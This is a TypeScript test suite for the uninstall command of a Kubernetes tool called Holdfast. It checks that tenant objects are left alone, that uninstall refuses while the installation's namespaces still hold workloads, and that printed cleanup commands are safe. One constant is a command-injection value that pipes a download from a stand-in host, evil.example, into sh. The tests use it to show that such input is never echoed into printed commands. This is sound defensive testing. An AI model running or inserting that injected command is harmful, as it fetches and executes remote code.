import { expect } from 'chai';
import type { KubeObject } from '../../api/meta.js';
import { InstalledCluster, ownClaim } from '../testing/installed-cluster.js';
import { EVERYTHING, FOREIGN, MANIFESTS, PLAIN, installed, uninstalled } from '../testing/installed-objects.js';
import { uninstall } from './uninstall.js';

const LABELS = { 'app.kubernetes.io/name': 'holdfast' };
const EVIL = '/;curl -s https://evil.example|sh;:';

function object(apiVersion: string, kind: string, metadata: KubeObject['metadata'], more: object = {}): KubeObject {
  return { apiVersion, kind, metadata: { labels: LABELS, ...metadata }, ...more };
}

function agents(namespace: string, name: string, path: string, annotations: Record<string, string> = {}): KubeObject {
  const volumes = [{ name: 'cni-bin', hostPath: { path } }];
  return object(
    'apps/v1',
    'DaemonSet',
    { namespace, name, annotations },
    { spec: { template: { spec: { volumes } } } },
  );
}

describe('kubectl holdfast uninstall, in a cluster with tenants who use the label and names of Holdfast,', () => {
  for (const [title, theirs] of [
    ['a DaemonSet with a path', agents('tenant', 'holdfast-agent', EVIL)],
    ['a release of Helm', agents('tenant', 'holdfast-x', '/', { 'meta.helm.sh/release-name': EVIL })],
    ['a pod', object('v1', 'Pod', { namespace: 'tenant', name: 'holdfast-x' })],
    ['a Deployment', object('apps/v1', 'Deployment', { namespace: 'tenant', name: 'holdfast-db' })],
    ['a namespace with VMs', object('v1', 'Namespace', { name: 'holdfast-vms' })],
  ] as const) {
    it(`neither shows ${title}, nor removes it, nor refuses because of it`, async () => {
      const vm = object('kubevirt.io/v1', 'VirtualMachine', { namespace: 'holdfast-vms', name: 'vm' });
      for (const [options, cluster] of [
        // as the API server sorts: others first
        [PLAIN, new InstalledCluster([theirs, vm, ...MANIFESTS, ...FOREIGN])],
        [EVERYTHING, uninstalled([theirs, vm])],
      ] as const) {
        expect(await uninstall(options, cluster.deps())).to.equal(true);
        expect([...cluster.printed, ...cluster.logged].join('\n')).not.to.match(/evil|tenant\/holdfast|holdfast-vms/);
        const { namespace, name } = theirs.metadata;
        expect(cluster.has(theirs.kind!, namespace === undefined ? name : `${namespace}/${name}`)).to.equal(true);
      }
    });
  }

  it('finds an installation in other namespaces', async () => {
    const text = JSON.stringify(MANIFESTS)
      .replaceAll('holdfast-system', 'network')
      .replaceAll('holdfast-agents', 'holdfast-nodes');
    const cluster = new InstalledCluster([...(JSON.parse(text) as KubeObject[]), ...FOREIGN]);
    expect(await uninstall(EVERYTHING, cluster.deps())).to.equal(false);
    expect(cluster.logged.join('\n'))
      .to.include('DaemonSet holdfast-nodes/holdfast-agent')
      .and.include('Deployment network/holdfast-');
  });

  describe('refuses while a namespace of the installation', () => {
    const metadata = { namespace: 'holdfast-system', name: 'web' };
    for (const [content, foreign] of [
      ['IPAMClaim vm.data', ownClaim('holdfast-system/vm.data')],
      ['VirtualMachine web', object('kubevirt.io/v1', 'VirtualMachine', metadata)],
      ['PersistentVolumeClaim web', object('v1', 'PersistentVolumeClaim', metadata)],
      ['Pod web', object('v1', 'Pod', metadata)],
    ] as const) {
      it(`contains ${content}`, async () => {
        const cluster = installed([foreign]);
        expect(await uninstall(PLAIN, cluster.deps())).to.equal(false);
        expect(cluster.logged.join('\n')).to.include(`Namespace holdfast-system contains ${content}`);
      });
    }
  });

  describe('prints', () => {
    for (const [path, printed] of [
      ['/var/lib/rancher/k3s/data/cni', '/var/lib/rancher/k3s/data/cni'],
      [EVIL, '/opt/cni/bin'],
      ['/', '/opt/cni/bin'],
      ['bin', '/opt/cni/bin'],
    ] as const) {
      it(`the command for nodes with ${printed} if the agents have ${path}`, async () => {
        const cluster = installed([agents('holdfast-agents', 'holdfast-agent', path)]);
        await uninstall(PLAIN, cluster.deps());
        expect(cluster.printed).to.include(
          `  ${printed}/holdfast remove-guards && rm -rf ${printed}/holdfast /run/holdfast`,
        );
        expect(cluster.printed.some((line) => line.startsWith('Replace the directory'))).to.equal(path !== printed);
      });
    }

    it('no text of an object in a command, and few of many commands', async () => {
      const managed = Array.from({ length: 20 }, (_, index) =>
        agents('holdfast-agents', `holdfast-${index}`, '/', {
          'meta.helm.sh/release-name': index === 0 ? EVIL : `r${index}`,
        }),
      );
      const cluster = installed(managed);
      expect(await uninstall(PLAIN, cluster.deps())).to.equal(true);
      const commands = cluster.printed.filter((line) => line.includes('helm uninstall'));
      expect(commands).to.have.length(5);
      expect(commands).to.include('  helm uninstall <name> --kube-context lab');
    });
  });
});
